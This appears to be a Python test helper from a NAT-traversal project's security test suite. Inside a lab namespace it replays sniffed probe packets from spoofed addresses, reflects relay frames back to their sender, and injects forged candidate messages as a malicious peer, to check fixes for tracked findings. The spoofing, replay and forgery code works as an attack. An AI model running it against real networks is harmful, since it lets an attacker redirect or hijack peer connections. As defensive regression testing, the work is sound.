#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""probe_v2.py: attacks on nat-probe's messages (issue 14, findings 3, 5, 6, 7),
run inside a namespace of tests/net/natlab.sh by t_probe_attacks.sh.

It speaks both message versions (docs/nat-traversal.md): version 1 ("TSP"/"TSC"
0x01, one key for both directions) and version 2 ("TSP"/"TSC" 0x02, direction
keys, counters, encrypted candidates), so the same attack runs against the
code before and after the fix.  Relay frames (SEND/RECV, core/relay/relay_proto.h)
are built here by hand: only their 40-byte header is used.

Subcommands (each prints one JSON line on success, exits 1 with a message else):
  grab     --iface IF --what ping|pong|send-cand|recv-cand [--src IP] [--dst IP]
           [--timeout S] [--resend-from IP:PORT]: sniff the first such datagram,
           print its addresses and payload (hex); with --resend-from, re-send it
           to its destination from that (spoofed) address at once.
  inject   --src IP:PORT --dst IP:PORT --hex PAYLOAD [--count N]: send PAYLOAD N
           times with a spoofed source (scapy, raw IP).
  reflect  --send-hex SEND_FRAME --relay IP:PORT --dst IP:PORT: turn a captured
           SEND kind 1 (B -> relay, for A) into the RECV kind 1 that B would get
           from A, i.e. B's own candidates handed back to B as A's.
  cands    --key FILE --peer-pub B64 --relay IP:PORT --dst IP:PORT --cand IP:PORT...
           [--count N] [--gap S]: a malicious peer (holding FILE, a `wg genkey`
           private key) sends the candidates it likes, version 1 and 2, as RECV
           frames spoofed from the relay.
  count    --pcap FILE --src IP [--txid HEX]: probes sent by IP in a capture:
           PINGs, PONGs, and PONGs echoing txid.
"""
import argparse
import base64
import hashlib
import ipaddress
import json
import os
import struct
import sys
import time

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305

TSR_MAGIC = b"TSR\x02"  # relay protocol v2 (docs/nat-traversal.md)
TSR_SEND_HDR, TSR_RECV_HDR = 56, 40  # a SEND carries a 16-byte token after the key
TSR_SEND, TSR_RECV = 3, 4
KIND_CANDIDATES = 1


def die(msg):
    print("probe_v2: " + msg, file=sys.stderr)
    sys.exit(1)


def hostport(s):
    host, _, port = s.rpartition(":")
    return host.strip("[]"), int(port)


# ---- the messages ----

def probe_info(payload):
    """(version, type, counter or None, txid) of a PING/PONG, or None."""
    if len(payload) < 8 or payload[:3] != b"TSP":
        return None
    ver, typ = payload[3], payload[4]
    if ver == 1 and len(payload) in (68, 88):
        return ver, typ, None, payload[40:52]
    if ver == 2 and len(payload) in (76, 96):
        return ver, typ, struct.unpack(">Q", payload[40:48])[0], payload[48:60]
    return None


def addr_rec(host, port):
    if ":" in host:
        return struct.pack(">BBH", 6, 0, port) + ipaddress.IPv6Address(host).packed
    return struct.pack(">BBH", 4, 0, port) + ipaddress.IPv4Address(host).packed + bytes(12)


def x25519(priv_b64, pub_b64):
    priv = X25519PrivateKey.from_private_bytes(base64.b64decode(priv_b64))
    return priv.exchange(X25519PublicKey.from_public_bytes(base64.b64decode(pub_b64)))


def public_of(priv_b64):
    from cryptography.hazmat.primitives import serialization
    priv = X25519PrivateKey.from_private_bytes(base64.b64decode(priv_b64))
    return priv.public_key().public_bytes(serialization.Encoding.Raw,
                                          serialization.PublicFormat.Raw)


def cand_v1(dh, recs, flags=1):
    pk = hashlib.blake2s(b"tinescale-probe-v1" + dh).digest()
    body = b"TSC\x01" + os.urandom(12) + bytes([flags, len(recs)]) + b"".join(recs)
    return body + hashlib.blake2s(body, key=pk, digest_size=16).digest()


def _rotl(v, n):
    return ((v << n) & 0xffffffff) | (v >> (32 - n))


def hchacha20(key, nonce16):
    """HChaCha20 (the XChaCha20 subkey), written from draft-irtf-cfrg-xchacha."""
    st = [0x61707865, 0x3320646e, 0x79622d32, 0x6b206574]
    st += list(struct.unpack("<8I", key)) + list(struct.unpack("<4I", nonce16))

    def qr(a, b, c, d):
        st[a] = (st[a] + st[b]) & 0xffffffff; st[d] = _rotl(st[d] ^ st[a], 16)
        st[c] = (st[c] + st[d]) & 0xffffffff; st[b] = _rotl(st[b] ^ st[c], 12)
        st[a] = (st[a] + st[b]) & 0xffffffff; st[d] = _rotl(st[d] ^ st[a], 8)
        st[c] = (st[c] + st[d]) & 0xffffffff; st[b] = _rotl(st[b] ^ st[c], 7)

    for _ in range(10):
        qr(0, 4, 8, 12); qr(1, 5, 9, 13); qr(2, 6, 10, 14); qr(3, 7, 11, 15)
        qr(0, 5, 10, 15); qr(1, 6, 11, 12); qr(2, 7, 8, 13); qr(3, 4, 9, 14)
    return struct.pack("<8I", *(st[0:4] + st[12:16]))


def xchacha_seal(key, nonce24, plain, ad):
    sub = hchacha20(key, nonce24[:16])
    return ChaCha20Poly1305(sub).encrypt(bytes(4) + nonce24[16:], plain, ad)


def cand_v2(dh, pub_sender, pub_receiver, counter, recs, flags=1):
    h = hashlib.blake2s(key=dh, digest_size=32)
    h.update(b"tinescale-probe-v2 cand" + pub_sender + pub_receiver)
    key = h.digest()
    nonce = os.urandom(24)
    hdr = b"TSC\x02" + struct.pack(">Q", counter) + nonce
    plain = bytes([flags, len(recs), 0, 0]) + b"".join(recs)
    return hdr + xchacha_seal(key, nonce, plain, hdr)


def recv_frame(src_key, payload):
    return TSR_MAGIC + bytes([TSR_RECV, KIND_CANDIDATES, 0, 0]) + src_key + payload


# ---- the network ----

def spoof(src, dst, payloads):
    from scapy.all import IP, UDP, conf, Raw  # noqa: F401  (scapy is slow to import)
    conf.verb = 0
    (sh, sp), (dh_, dp) = src, dst
    sock = conf.L3socket()
    try:
        for p in payloads:
            sock.send(IP(src=sh, dst=dh_) / UDP(sport=sp, dport=dp) / Raw(p))
    finally:
        sock.close()


def match(what, payload):
    if what in ("ping", "pong"):
        info = probe_info(payload)
        return info is not None and info[1] == (1 if what == "ping" else 2)
    if len(payload) > 40 and payload[:4] == TSR_MAGIC and payload[5] == KIND_CANDIDATES:
        return payload[4] == (TSR_SEND if what == "send-cand" else TSR_RECV)
    return False


def cmd_grab(a):
    from scapy.all import IP, UDP, conf, sniff
    conf.verb = 0
    filt = "udp"
    if a.src:
        filt += " and src host " + a.src
    if a.dst:
        filt += " and dst host " + a.dst
    got = sniff(iface=a.iface, filter=filt, timeout=a.timeout, count=1,
                lfilter=lambda p: UDP in p and match(a.what, bytes(p[UDP].payload)))
    if not got:
        die("no %s seen on %s within %ss" % (a.what, a.iface, a.timeout))
    p = got[0]
    payload = bytes(p[UDP].payload)
    if a.resend_from:
        # At once: a punch PING's txid is outstanding for one 200 ms round only.
        spoof(hostport(a.resend_from), (p[IP].dst, p[UDP].dport), [payload] * a.resend_count)
    out = {"src": "%s:%d" % (p[IP].src, p[UDP].sport), "dst": "%s:%d" % (p[IP].dst, p[UDP].dport),
           "hex": payload.hex()}
    info = probe_info(payload)
    if info:
        out.update(version=info[0], counter=info[2], txid=info[3].hex())
    elif payload[:4] == TSR_MAGIC:
        inner = payload[TSR_SEND_HDR if payload[4] == TSR_SEND else TSR_RECV_HDR:]
        out.update(key=base64.b64encode(payload[8:40]).decode(), version=inner[3],
                   counter=struct.unpack(">Q", inner[4:12])[0] if inner[3] == 2 else None)
    print(json.dumps(out))


def cmd_inject(a):
    payload = bytes.fromhex(a.hex)
    t0 = time.monotonic()
    spoof(hostport(a.src), hostport(a.dst), [payload] * a.count)
    print(json.dumps({"sent": a.count, "seconds": round(time.monotonic() - t0, 2)}))


def cmd_reflect(a):
    send = bytes.fromhex(a.send_hex)
    if len(send) <= TSR_SEND_HDR or send[:4] != TSR_MAGIC or send[4] != TSR_SEND:
        die("not a SEND frame")
    # The SEND's destination key (A) becomes the RECV's source: B gets its own message as A's.
    frame = recv_frame(send[8:40], send[TSR_SEND_HDR:])
    spoof(hostport(a.relay), hostport(a.dst), [frame])
    print(json.dumps({"sent": 1, "as_from": base64.b64encode(send[8:40]).decode()}))


def cmd_cands(a):
    priv = open(a.key).read().strip()
    me, dh = public_of(priv), x25519(priv, a.peer_pub)
    peer = base64.b64decode(a.peer_pub)
    recs = [addr_rec(*hostport(c)) for c in a.cand]
    # A counter above anything the real key holder sent: it starts from its clock too.
    counter = (int(time.time() * 1000) << 14) + (1 << 20)
    frames = []
    for i in range(a.count):
        frames.append(recv_frame(me, cand_v2(dh, me, peer, counter + i, recs)))
        frames.append(recv_frame(me, cand_v1(dh, recs)))
    for i in range(0, len(frames), 2):
        spoof(hostport(a.relay), hostport(a.dst), frames[i:i + 2])
        if a.gap and i + 2 < len(frames):
            time.sleep(a.gap)
    print(json.dumps({"sent": a.count, "candidates": a.cand}))


def cmd_count(a):
    from scapy.all import IP, UDP, rdpcap
    pings = pongs = echo = 0
    txid = bytes.fromhex(a.txid) if a.txid else None
    for p in rdpcap(a.pcap):
        if IP not in p or UDP not in p or p[IP].src != a.src:
            continue
        info = probe_info(bytes(p[UDP].payload))
        if not info:
            continue
        if info[1] == 1:
            pings += 1
        elif info[1] == 2:
            pongs += 1
            if txid is not None and info[3] == txid:
                echo += 1
    print(json.dumps({"pings": pings, "pongs": pongs, "pongs_echoing": echo}))


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    g = sub.add_parser("grab")
    g.add_argument("--iface", required=True)
    g.add_argument("--what", required=True, choices=["ping", "pong", "send-cand", "recv-cand"])
    g.add_argument("--src")
    g.add_argument("--dst")
    g.add_argument("--timeout", type=float, default=15)
    g.add_argument("--resend-from", help="IP:PORT: re-send the datagram from there at once")
    g.add_argument("--resend-count", type=int, default=3)
    i = sub.add_parser("inject")
    i.add_argument("--src", required=True)
    i.add_argument("--dst", required=True)
    i.add_argument("--hex", required=True)
    i.add_argument("--count", type=int, default=1)
    r = sub.add_parser("reflect")
    r.add_argument("--send-hex", required=True)
    r.add_argument("--relay", required=True)
    r.add_argument("--dst", required=True)
    c = sub.add_parser("cands")
    c.add_argument("--key", required=True)
    c.add_argument("--peer-pub", required=True)
    c.add_argument("--relay", required=True)
    c.add_argument("--dst", required=True)
    c.add_argument("--cand", action="append", required=True)
    c.add_argument("--count", type=int, default=1)
    c.add_argument("--gap", type=float, default=0)
    n = sub.add_parser("count")
    n.add_argument("--pcap", required=True)
    n.add_argument("--src", required=True)
    n.add_argument("--txid")
    a = ap.parse_args()
    {"grab": cmd_grab, "inject": cmd_inject, "reflect": cmd_reflect, "cands": cmd_cands,
     "count": cmd_count}[a.cmd](a)


if __name__ == "__main__":
    main()
